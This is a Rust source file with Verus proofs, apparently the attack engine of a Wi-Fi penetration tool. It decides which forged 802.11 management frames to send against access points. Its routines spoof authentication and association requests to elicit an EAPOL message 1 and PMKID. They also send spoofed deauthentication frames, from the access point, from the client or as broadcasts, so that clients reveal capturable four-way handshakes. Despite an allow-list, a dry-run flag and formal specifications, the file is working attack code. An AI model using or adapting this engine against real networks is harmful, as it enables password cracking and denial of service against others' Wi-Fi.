//! The attack engine: per-access-point decisions about which forged
//! management frames to transmit.
//!
//! Each entry point inspects the runtime, mutates the access-point record,
//! counters and status log, and returns the frames to put on the air, in
//! order.  The caller owns the radio socket and performs the writes; under
//! the dry-run flag, or on any short-circuit, the returned list is empty.

use vstd::prelude::*;

use vstd::pervasive::VecAdditionalExecFns;

use crate::devices::AccessPoint;
use crate::devices::AuthSequence;
use crate::devices::Counters;
use crate::devices::next_seq;
use crate::devices::t1_elapsed;
use crate::mac::MacAddress;
use crate::mac::broadcast_view;
use crate::storage::HandshakeStorage;
use crate::storage::has_complete_for_ap;
use crate::storage::has_m1_for_ap;

verus! {

/// A cipher suite advertised in the robust-security element.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum CipherKind {
    Tkip,
    Ccmp,
}

/// An IEEE 802.11 deauthentication reason code used by the engine.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum DeauthReason {
    Class3FrameReceivedFromNonassociatedSTA,
    DeauthenticatedBecauseSTAIsLeaving,
}

/// A frame for the caller to build and transmit, with every field the
/// builders need.
#[derive(Debug)]
pub enum FrameOut {
    ProbeRequestUndirected { src: MacAddress, seq: u16 },
    AuthenticationNoack { ap: MacAddress, client: MacAddress, seq: u16 },
    AssociationRequest {
        ap: MacAddress,
        client: MacAddress,
        bssid: MacAddress,
        seq: u16,
        ssid: Option<String>,
        group_cipher: CipherKind,
        pairwise_cipher: CipherKind,
    },
    DeauthenticationFromAp { ap: MacAddress, target: MacAddress, seq: u16, reason: DeauthReason },
    DeauthenticationFromClient {
        ap: MacAddress,
        client: MacAddress,
        seq: u16,
        reason: DeauthReason,
    },
}

/// One entry of the status log.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LogEvent {
    StateReset { ap: MacAddress },
    StatePromoted { ap: MacAddress, state: u8 },
    AttackedBeacon { ap: MacAddress },
}

/// The state one engine call borrows exclusively: the handshake store, the
/// access-point records, the counters, the target allow-list, the rogue
/// client address, the dry-run flag and the status log.
pub struct OxideRuntime {
    pub handshake_storage: HandshakeStorage,
    pub access_points: Vec<AccessPoint>,
    pub counters: Counters,
    pub targets: Vec<MacAddress>,
    pub rogue_client: MacAddress,
    pub notx: bool,
    pub status_log: Vec<LogEvent>,
}

/// The allow-list admits this access point: the list is empty, or holds its
/// address.
pub open spec fn targeted(targets: Seq<MacAddress>, ap: Seq<u8>) -> bool {
    targets.len() == 0 || exists|i: int| 0 <= i < targets.len() && targets[i]@ == ap
}

/// Position `i` holds the first record of this access point.
pub open spec fn ap_at(aps: Seq<AccessPoint>, ap: Seq<u8>, i: int) -> bool {
    &&& 0 <= i < aps.len()
    &&& aps[i].mac@ == ap
    &&& forall|i2: int| 0 <= i2 < i ==> aps[i2].mac@ != ap
}

/// No record of this access point exists.
pub open spec fn ap_unknown(aps: Seq<AccessPoint>, ap: Seq<u8>) -> bool {
    forall|i: int| 0 <= i < aps.len() ==> aps[i].mac@ != ap
}

/// The fields no engine call touches.
pub open spec fn engine_env_unchanged(pre: OxideRuntime, post: OxideRuntime) -> bool {
    &&& post.handshake_storage == pre.handshake_storage
    &&& post.targets == pre.targets
    &&& post.rogue_client == pre.rogue_client
    &&& post.notx == pre.notx
}

/// Room for the interaction counters to grow during one engine call.
pub open spec fn interactions_headroom(aps: Seq<AccessPoint>) -> bool {
    forall|i: int| 0 <= i < aps.len() ==> (#[trigger] aps[i].interactions) <= 0xffff_ffff_ffff_fffd
}

/// Tests the allow-list.
pub fn is_targeted(targets: &Vec<MacAddress>, ap_mac: &MacAddress) -> (r: bool)
    ensures
        r == targeted(targets@, ap_mac@),
{
    if targets.len() == 0 {
        return true;
    }
    let mut i: usize = 0;
    while i < targets.len()
        invariant
            i <= targets@.len(),
            forall|i2: int| 0 <= i2 < i ==> targets@[i2]@ != ap_mac@,
        decreases targets@.len() - i,
    {
        if targets[i].same_as(ap_mac) {
            return true;
        }
        i = i + 1;
    }
    false
}

/// Finds the first record of this access point.
pub fn find_ap(aps: &Vec<AccessPoint>, ap_mac: &MacAddress) -> (r: Option<usize>)
    ensures
        r matches Some(i) ==> ap_at(aps@, ap_mac@, i as int),
        r is None ==> ap_unknown(aps@, ap_mac@),
{
    let mut i: usize = 0;
    while i < aps.len()
        invariant
            i <= aps@.len(),
            forall|i2: int| 0 <= i2 < i ==> aps@[i2].mac@ != ap_mac@,
        decreases aps@.len() - i,
    {
        if aps[i].mac.same_as(ap_mac) {
            return Some(i);
        }
        i = i + 1;
    }
    None
}

/// A placeholder record to swap an access point out of the registry.
fn placeholder_ap(ap_mac: &MacAddress, now: u64) -> AccessPoint {
    AccessPoint {
        mac: *ap_mac,
        ssid: None,
        rsn_akm_psk: None,
        ap_mfp: None,
        cs_tkip: None,
        gs_tkip: None,
        akm_mask: false,
        client_list: Vec::new(),
        beacon_count: 0,
        interactions: 0,
        auth_sequence: AuthSequence::new(now),
    }
}

/// What the PMKID-retrieval entry point does once the early short-circuits
/// pass and the record at `i` is this access point's.  The probe phase runs
/// when the SSID is unknown: sequence counter 2 advances, and outside the
/// dry run an undirected probe request goes out and the interaction count
/// grows.  After the cooldown, phase and PSK gates, the authentication
/// phase runs: counter 2 advances again, and outside the dry run the no-ack
/// authentication frame goes out, the phase is promoted to 1, and both
/// timers restart.
pub open spec fn m1_retrieval_at(
    pre: OxideRuntime,
    post: OxideRuntime,
    frames: Seq<FrameOut>,
    i: int,
    now: u64,
) -> bool {
    let ap0 = pre.access_points@[i];
    let probe_ticks = ap0.ssid is None;
    let seq_a = pre.counters.seq2;
    let seq2_a = if probe_ticks {
        next_seq(seq_a)
    } else {
        seq_a
    };
    let probe_frames: Seq<FrameOut> = if probe_ticks && !pre.notx {
        seq![FrameOut::ProbeRequestUndirected { src: pre.rogue_client, seq: seq_a }]
    } else {
        Seq::empty()
    };
    let inter_a: u64 = if probe_ticks && !pre.notx {
        (ap0.interactions + 1) as u64
    } else {
        ap0.interactions
    };
    &&& engine_env_unchanged(pre, post)
    &&& if !t1_elapsed(ap0.auth_sequence, now) {
        &&& post.access_points@ =~= pre.access_points@.update(
            i,
            AccessPoint { interactions: inter_a, ..ap0 },
        )
        &&& post.counters == (Counters { seq2: seq2_a, ..pre.counters })
        &&& post.status_log@ =~= pre.status_log@
        &&& frames =~= probe_frames
    } else {
        let reset = ap0.auth_sequence.state > 0;
        let state_a: u8 = if reset {
            0u8
        } else {
            ap0.auth_sequence.state
        };
        let log_a = if reset {
            pre.status_log@.push(LogEvent::StateReset { ap: pre.access_points@[i].mac })
        } else {
            pre.status_log@
        };
        let seq_a2 = AuthSequence { state: state_a, ..ap0.auth_sequence };
        if has_m1_for_ap(pre.handshake_storage@, ap0.mac@) || ap0.rsn_akm_psk != Some(true) {
            &&& post.access_points@ =~= pre.access_points@.update(
                i,
                AccessPoint { interactions: inter_a, auth_sequence: seq_a2, ..ap0 },
            )
            &&& post.counters == (Counters { seq2: seq2_a, ..pre.counters })
            &&& post.status_log@ =~= log_a
            &&& frames =~= probe_frames
        } else {
            let seq_b = seq2_a;
            let seq2_b = next_seq(seq_b);
            if pre.notx {
                &&& post.access_points@ =~= pre.access_points@.update(
                    i,
                    AccessPoint { interactions: inter_a, auth_sequence: seq_a2, ..ap0 },
                )
                &&& post.counters == (Counters { seq2: seq2_b, ..pre.counters })
                &&& post.status_log@ =~= log_a
                &&& frames =~= probe_frames
            } else {
                &&& post.access_points@ =~= pre.access_points@.update(
                    i,
                    AccessPoint {
                        interactions: (inter_a + 1) as u64,
                        auth_sequence: AuthSequence { state: 1u8, t1: now, t2: now },
                        ..ap0
                    },
                )
                &&& post.counters == (Counters { seq2: seq2_b, ..pre.counters })
                &&& post.status_log@ =~= log_a.push(
                    LogEvent::StatePromoted { ap: pre.access_points@[i].mac, state: 1u8 },
                )
                &&& frames =~= probe_frames + seq![
                    FrameOut::AuthenticationNoack {
                        ap: ap0.mac,
                        client: pre.rogue_client,
                        seq: seq_b,
                    },
                ]
            }
        }
    }
}

/// The whole contract of the PMKID-retrieval entry point: outside the
/// allow-list, with a complete handshake already stored, or without a
/// record of the access point, nothing happens; otherwise
/// [`m1_retrieval_at`] describes the call.
pub open spec fn m1_retrieval_rel(
    pre: OxideRuntime,
    post: OxideRuntime,
    frames: Seq<FrameOut>,
    ap: Seq<u8>,
    now: u64,
) -> bool {
    if !targeted(pre.targets@, ap) || has_complete_for_ap(pre.handshake_storage@, ap)
        || ap_unknown(pre.access_points@, ap) {
        post == pre && frames =~= Seq::<FrameOut>::empty()
    } else {
        exists|i: int| #[trigger] ap_at(pre.access_points@, ap, i) && m1_retrieval_at(
            pre,
            post,
            frames,
            i,
            now,
        )
    }
}

/// Drives one access point through the forged Authentication → Association
/// exchange to elicit an EAPOL message 1 and its PMKID.  Returns the frames
/// to transmit, in order.  An access point with a complete handshake in the
/// store is never touched, and one outside the allow-list is never touched.
#[verifier::rlimit(60)]
pub fn m1_retrieval_attack(oxide: &mut OxideRuntime, ap_mac: &MacAddress, now: u64) -> (frames:
    Vec<FrameOut>)
    requires
        interactions_headroom(old(oxide).access_points@),
    ensures
        m1_retrieval_rel(*old(oxide), *final(oxide), frames@, ap_mac@, now),
        !targeted(old(oxide).targets@, ap_mac@) ==> frames@ =~= Seq::<FrameOut>::empty()
            && *final(oxide) == *old(oxide),
        has_complete_for_ap(old(oxide).handshake_storage@, ap_mac@) ==> frames@
            =~= Seq::<FrameOut>::empty() && *final(oxide) == *old(oxide),
{
    let mut frames: Vec<FrameOut> = Vec::new();
    if !is_targeted(&oxide.targets, ap_mac) {
        return frames;
    }
    if oxide.handshake_storage.has_complete_handshake_for_ap(ap_mac) {
        return frames;
    }
    let i = match find_ap(&oxide.access_points, ap_mac) {
        Some(i) => i,
        None => {
            return frames;
        },
    };
    let ghost pre = *oxide;
    let mut ap = placeholder_ap(ap_mac, now);
    oxide.access_points.set_and_swap(i, &mut ap);
    if ap.ssid.is_none() {
        let seq = oxide.counters.sequence2();
        if !oxide.notx {
            frames.push(FrameOut::ProbeRequestUndirected { src: oxide.rogue_client, seq: seq });
            ap.interactions = ap.interactions + 1;
        }
    }
    if !ap.auth_sequence.is_t1_timeout(now) {
        oxide.access_points.set_and_swap(i, &mut ap);
        proof {
            assert(ap_at(pre.access_points@, ap_mac@, i as int));
            assert(m1_retrieval_at(pre, *oxide, frames@, i as int, now));
        }
        return frames;
    }
    if ap.auth_sequence.state > 0 {
        ap.auth_sequence.state = 0;
        oxide.status_log.push(LogEvent::StateReset { ap: ap.mac });
    }
    if oxide.handshake_storage.has_m1_for_ap(ap_mac) {
        oxide.access_points.set_and_swap(i, &mut ap);
        proof {
            assert(ap_at(pre.access_points@, ap_mac@, i as int));
            assert(m1_retrieval_at(pre, *oxide, frames@, i as int, now));
        }
        return frames;
    }
    let psk = match &ap.rsn_akm_psk {
        Some(true) => true,
        _ => false,
    };
    if !psk {
        oxide.access_points.set_and_swap(i, &mut ap);
        proof {
            assert(m1_retrieval_at(pre, *oxide, frames@, i as int, now));
        }
        return frames;
    }
    let seq_b = oxide.counters.sequence2();
    if !oxide.notx {
        frames.push(
            FrameOut::AuthenticationNoack {
                ap: ap.mac,
                client: oxide.rogue_client,
                seq: seq_b,
            },
        );
        ap.interactions = ap.interactions + 1;
        ap.auth_sequence.state = 1;
        oxide.status_log.push(LogEvent::StatePromoted { ap: ap.mac, state: 1 });
        ap.auth_sequence.t1 = now;
        ap.auth_sequence.t2 = now;
    }
    oxide.access_points.set_and_swap(i, &mut ap);
    proof {
        assert(ap_at(pre.access_points@, ap_mac@, i as int));
        assert(m1_retrieval_at(pre, *oxide, frames@, i as int, now));
    }
    frames
}

/// What the deauthentication entry point does once the short-circuits pass
/// and the record at `i` is this access point's.  The cadence acts only on
/// every 32nd observed beacon, never under management-frame protection or
/// an empty AKM mask.  With a known client — `pick` selects one — a
/// deauthentication pair goes out, one frame forged from each side; with
/// none, a single broadcast deauthentication.  Counter 1 sequences the
/// frames; the interaction count grows and the attack is logged.
pub open spec fn deauth_at(
    pre: OxideRuntime,
    post: OxideRuntime,
    frames: Seq<FrameOut>,
    i: int,
    pick: int,
) -> bool {
    let ap0 = pre.access_points@[i];
    let s1 = pre.counters.seq1;
    &&& engine_env_unchanged(pre, post)
    &&& if ap0.beacon_count % 32 != 0 || ap0.ap_mfp == Some(true) || !ap0.akm_mask {
        &&& post.access_points@ =~= pre.access_points@
        &&& post.counters == pre.counters
        &&& post.status_log@ =~= pre.status_log@
        &&& frames =~= Seq::<FrameOut>::empty()
    } else if ap0.client_list@.len() > 0 {
        let client = ap0.client_list@[pick % ap0.client_list@.len() as int];
        &&& post.access_points@ =~= pre.access_points@.update(
            i,
            AccessPoint { interactions: (ap0.interactions + 1) as u64, ..ap0 },
        )
        &&& post.counters == (Counters { seq1: next_seq(next_seq(s1)), ..pre.counters })
        &&& post.status_log@ =~= pre.status_log@.push(LogEvent::AttackedBeacon { ap: ap0.mac })
        &&& frames =~= seq![
            FrameOut::DeauthenticationFromAp {
                ap: ap0.mac,
                target: client,
                seq: s1,
                reason: DeauthReason::Class3FrameReceivedFromNonassociatedSTA,
            },
            FrameOut::DeauthenticationFromClient {
                ap: ap0.mac,
                client: client,
                seq: next_seq(s1),
                reason: DeauthReason::DeauthenticatedBecauseSTAIsLeaving,
            },
        ]
    } else {
        &&& post.access_points@ =~= pre.access_points@.update(
            i,
            AccessPoint { interactions: (ap0.interactions + 1) as u64, ..ap0 },
        )
        &&& post.counters == (Counters { seq1: next_seq(s1), ..pre.counters })
        &&& post.status_log@ =~= pre.status_log@.push(LogEvent::AttackedBeacon { ap: ap0.mac })
        &&& frames.len() == 1
        &&& frames[0] matches FrameOut::DeauthenticationFromAp { ap, target, seq, reason }
            && ap == ap0.mac && target@ == broadcast_view() && seq == s1 && reason
            == DeauthReason::Class3FrameReceivedFromNonassociatedSTA
    }
}

/// The whole contract of the deauthentication entry point: outside the
/// allow-list, with a complete handshake already stored, without a record
/// of the access point, or under the dry-run flag, nothing happens;
/// otherwise [`deauth_at`] describes the call.
pub open spec fn deauth_rel(
    pre: OxideRuntime,
    post: OxideRuntime,
    frames: Seq<FrameOut>,
    ap: Seq<u8>,
    pick: int,
) -> bool {
    if !targeted(pre.targets@, ap) || has_complete_for_ap(pre.handshake_storage@, ap)
        || ap_unknown(pre.access_points@, ap) || pre.notx {
        post == pre && frames =~= Seq::<FrameOut>::empty()
    } else {
        exists|i: int| #[trigger] ap_at(pre.access_points@, ap, i) && deauth_at(
            pre,
            post,
            frames,
            i,
            pick,
        )
    }
}

/// Disrupts the clients of one access point so they reauthenticate and emit
/// an observable four-way handshake.  `pick` chooses the client to deauth
/// when several are known.  Returns the frames to transmit, in order.
/// Frames go out only on every 32nd observed beacon, never under
/// management-frame protection, never for an access point with a complete
/// handshake in the store, and never outside the allow-list.
#[verifier::rlimit(60)]
pub fn deauth_attack(oxide: &mut OxideRuntime, ap_mac: &MacAddress, pick: usize) -> (frames: Vec<
    FrameOut,
>)
    requires
        interactions_headroom(old(oxide).access_points@),
    ensures
        deauth_rel(*old(oxide), *final(oxide), frames@, ap_mac@, pick as int),
        !targeted(old(oxide).targets@, ap_mac@) ==> frames@ =~= Seq::<FrameOut>::empty()
            && *final(oxide) == *old(oxide),
        has_complete_for_ap(old(oxide).handshake_storage@, ap_mac@) ==> frames@
            =~= Seq::<FrameOut>::empty() && *final(oxide) == *old(oxide),
        frames@.len() > 0 ==> {
            exists|i: int|
                #[trigger] ap_at(old(oxide).access_points@, ap_mac@, i)
                    && old(oxide).access_points@[i].beacon_count % 32 == 0
                    && old(oxide).access_points@[i].ap_mfp != Some(true)
        },
{
    let mut frames: Vec<FrameOut> = Vec::new();
    if !is_targeted(&oxide.targets, ap_mac) {
        return frames;
    }
    if oxide.handshake_storage.has_complete_handshake_for_ap(ap_mac) {
        return frames;
    }
    let i = match find_ap(&oxide.access_points, ap_mac) {
        Some(i) => i,
        None => {
            return frames;
        },
    };
    if oxide.notx {
        return frames;
    }
    let ghost pre = *oxide;
    let mut ap = placeholder_ap(ap_mac, 0);
    oxide.access_points.set_and_swap(i, &mut ap);
    if !(ap.beacon_count % 32 == 0) || matches!(&ap.ap_mfp, Some(true)) || !ap.akm_mask {
        oxide.access_points.set_and_swap(i, &mut ap);
        proof {
            assert(ap_at(pre.access_points@, ap_mac@, i as int));
            assert(pre.access_points@.update(i as int, pre.access_points@[i as int])
                =~= pre.access_points@);
            assert(deauth_at(pre, *oxide, frames@, i as int, pick as int));
        }
        return frames;
    }
    if ap.client_list.len() > 0 {
        let client = ap.client_list[pick % ap.client_list.len()];
        let s1 = oxide.counters.sequence1();
        frames.push(
            FrameOut::DeauthenticationFromAp {
                ap: ap.mac,
                target: client,
                seq: s1,
                reason: DeauthReason::Class3FrameReceivedFromNonassociatedSTA,
            },
        );
        let s2 = oxide.counters.sequence1();
        frames.push(
            FrameOut::DeauthenticationFromClient {
                ap: ap.mac,
                client: client,
                seq: s2,
                reason: DeauthReason::DeauthenticatedBecauseSTAIsLeaving,
            },
        );
    } else {
        let s1 = oxide.counters.sequence1();
        frames.push(
            FrameOut::DeauthenticationFromAp {
                ap: ap.mac,
                target: MacAddress::broadcast(),
                seq: s1,
                reason: DeauthReason::Class3FrameReceivedFromNonassociatedSTA,
            },
        );
    }
    ap.interactions = ap.interactions + 1;
    oxide.status_log.push(LogEvent::AttackedBeacon { ap: ap.mac });
    oxide.access_points.set_and_swap(i, &mut ap);
    proof {
        assert(ap_at(pre.access_points@, ap_mac@, i as int));
        assert(deauth_at(pre, *oxide, frames@, i as int, pick as int));
    }
    frames
}

/// What the association entry point does once the allow-list passes and the
/// record at `i` is this access point's.  Only phase 1 acts; an expired
/// cooldown resets the phase instead, and a stored message 1 stops the
/// exchange.  The cipher suites follow the advertised TKIP flags, CCMP
/// otherwise.  Counter 2 sequences the frame; outside the dry run the
/// association request goes out, the phase is promoted to 2, and both
/// timers restart.
pub open spec fn association_at(
    pre: OxideRuntime,
    post: OxideRuntime,
    frames: Seq<FrameOut>,
    i: int,
    client: MacAddress,
    now: u64,
) -> bool {
    let ap0 = pre.access_points@[i];
    &&& engine_env_unchanged(pre, post)
    &&& if ap0.auth_sequence.state != 1 {
        &&& post.access_points@ =~= pre.access_points@
        &&& post.counters == pre.counters
        &&& post.status_log@ =~= pre.status_log@
        &&& frames =~= Seq::<FrameOut>::empty()
    } else if t1_elapsed(ap0.auth_sequence, now) {
        &&& post.access_points@ =~= pre.access_points@.update(
            i,
            AccessPoint {
                auth_sequence: AuthSequence { state: 0u8, t2: now, ..ap0.auth_sequence },
                ..ap0
            },
        )
        &&& post.counters == pre.counters
        &&& post.status_log@ =~= pre.status_log@.push(LogEvent::StateReset { ap: ap0.mac })
        &&& frames =~= Seq::<FrameOut>::empty()
    } else if has_m1_for_ap(pre.handshake_storage@, ap0.mac@) {
        &&& post.access_points@ =~= pre.access_points@
        &&& post.counters == pre.counters
        &&& post.status_log@ =~= pre.status_log@
        &&& frames =~= Seq::<FrameOut>::empty()
    } else {
        let cs = if ap0.cs_tkip == Some(true) {
            CipherKind::Tkip
        } else {
            CipherKind::Ccmp
        };
        let gs = if ap0.gs_tkip == Some(true) {
            CipherKind::Tkip
        } else {
            CipherKind::Ccmp
        };
        let s2 = pre.counters.seq2;
        &&& post.counters == (Counters { seq2: next_seq(s2), ..pre.counters })
        &&& if pre.notx {
            &&& post.access_points@ =~= pre.access_points@
            &&& post.status_log@ =~= pre.status_log@
            &&& frames =~= Seq::<FrameOut>::empty()
        } else {
            &&& post.access_points@ =~= pre.access_points@.update(
                i,
                AccessPoint {
                    interactions: (ap0.interactions + 1) as u64,
                    auth_sequence: AuthSequence { state: 2u8, t1: now, t2: now },
                    ..ap0
                },
            )
            &&& post.status_log@ =~= pre.status_log@.push(
                LogEvent::StatePromoted { ap: ap0.mac, state: 2u8 },
            )
            &&& frames.len() == 1
            &&& frames[0] matches FrameOut::AssociationRequest {
                ap,
                client: c,
                bssid,
                seq,
                ssid,
                group_cipher,
                pairwise_cipher,
            } && ap == ap0.mac && c == client && bssid == ap0.mac && seq == s2
                && crate::handshake::opt_view(ssid) == crate::handshake::opt_view(ap0.ssid)
                && group_cipher == gs && pairwise_cipher == cs
        }
    }
}

/// The whole contract of the association entry point: outside the
/// allow-list, with a complete handshake already stored, or without a
/// record of the access point, nothing happens; otherwise
/// [`association_at`] describes the call.
pub open spec fn association_rel(
    pre: OxideRuntime,
    post: OxideRuntime,
    frames: Seq<FrameOut>,
    ap: Seq<u8>,
    client: MacAddress,
    now: u64,
) -> bool {
    if !targeted(pre.targets@, ap) || has_complete_for_ap(pre.handshake_storage@, ap)
        || ap_unknown(pre.access_points@, ap) {
        post == pre && frames =~= Seq::<FrameOut>::empty()
    } else {
        exists|i: int| #[trigger] ap_at(pre.access_points@, ap, i) && association_at(
            pre,
            post,
            frames,
            i,
            client,
            now,
        )
    }
}

/// Answers the access point's authentication response with an association
/// request carrying its SSID and advertised cipher suites.  Returns the
/// frames to transmit.  Nothing is sent outside the allow-list, for an
/// access point with a complete handshake in the store, outside phase 1,
/// after the cooldown expired, or once message 1 is stored for the access
/// point.
#[verifier::rlimit(60)]
pub fn attack_authentication_from_ap(
    ap_mac: &MacAddress,
    client_mac: &MacAddress,
    oxide: &mut OxideRuntime,
    now: u64,
) -> (frames: Vec<FrameOut>)
    requires
        interactions_headroom(old(oxide).access_points@),
    ensures
        association_rel(*old(oxide), *final(oxide), frames@, ap_mac@, *client_mac, now),
        !targeted(old(oxide).targets@, ap_mac@) ==> frames@ =~= Seq::<FrameOut>::empty()
            && *final(oxide) == *old(oxide),
        has_complete_for_ap(old(oxide).handshake_storage@, ap_mac@) ==> frames@
            =~= Seq::<FrameOut>::empty() && *final(oxide) == *old(oxide),
        has_m1_for_ap(old(oxide).handshake_storage@, ap_mac@) ==> frames@
            =~= Seq::<FrameOut>::empty(),
{
    let mut frames: Vec<FrameOut> = Vec::new();
    if !is_targeted(&oxide.targets, ap_mac) {
        return frames;
    }
    if oxide.handshake_storage.has_complete_handshake_for_ap(ap_mac) {
        return frames;
    }
    let i = match find_ap(&oxide.access_points, ap_mac) {
        Some(i) => i,
        None => {
            return frames;
        },
    };
    let ghost pre = *oxide;
    let mut ap = placeholder_ap(ap_mac, 0);
    oxide.access_points.set_and_swap(i, &mut ap);
    if ap.auth_sequence.state != 1 {
        oxide.access_points.set_and_swap(i, &mut ap);
        proof {
            assert(ap_at(pre.access_points@, ap_mac@, i as int));
            assert(pre.access_points@.update(i as int, pre.access_points@[i as int])
                =~= pre.access_points@);
            assert(association_at(pre, *oxide, frames@, i as int, *client_mac, now));
        }
        return frames;
    }
    if ap.auth_sequence.is_t1_timeout(now) {
        ap.auth_sequence.state = 0;
        ap.auth_sequence.t2 = now;
        oxide.status_log.push(LogEvent::StateReset { ap: ap.mac });
        oxide.access_points.set_and_swap(i, &mut ap);
        proof {
            assert(ap_at(pre.access_points@, ap_mac@, i as int));
            assert(association_at(pre, *oxide, frames@, i as int, *client_mac, now));
        }
        return frames;
    }
    if oxide.handshake_storage.has_m1_for_ap(ap_mac) {
        oxide.access_points.set_and_swap(i, &mut ap);
        proof {
            assert(ap_at(pre.access_points@, ap_mac@, i as int));
            assert(pre.access_points@.update(i as int, pre.access_points@[i as int])
                =~= pre.access_points@);
            assert(association_at(pre, *oxide, frames@, i as int, *client_mac, now));
        }
        return frames;
    }
    let cs = if matches!(&ap.cs_tkip, Some(true)) {
        CipherKind::Tkip
    } else {
        CipherKind::Ccmp
    };
    let gs = if matches!(&ap.gs_tkip, Some(true)) {
        CipherKind::Tkip
    } else {
        CipherKind::Ccmp
    };
    let seq = oxide.counters.sequence2();
    if !oxide.notx {
        ap.auth_sequence.state = 2;
        ap.auth_sequence.t1 = now;
        ap.auth_sequence.t2 = now;
        oxide.status_log.push(LogEvent::StatePromoted { ap: ap.mac, state: 2 });
        frames.push(
            FrameOut::AssociationRequest {
                ap: ap.mac,
                client: *client_mac,
                bssid: ap.mac,
                seq: seq,
                ssid: crate::handshake::clone_opt_string(&ap.ssid),
                group_cipher: gs,
                pairwise_cipher: cs,
            },
        );
        ap.interactions = ap.interactions + 1;
    }
    oxide.access_points.set_and_swap(i, &mut ap);
    proof {
        assert(ap_at(pre.access_points@, ap_mac@, i as int));
        if pre.notx {
            assert(pre.access_points@.update(i as int, pre.access_points@[i as int])
                =~= pre.access_points@);
        }
        assert(association_at(pre, *oxide, frames@, i as int, *client_mac, now));
    }
    frames
}

} // verus!
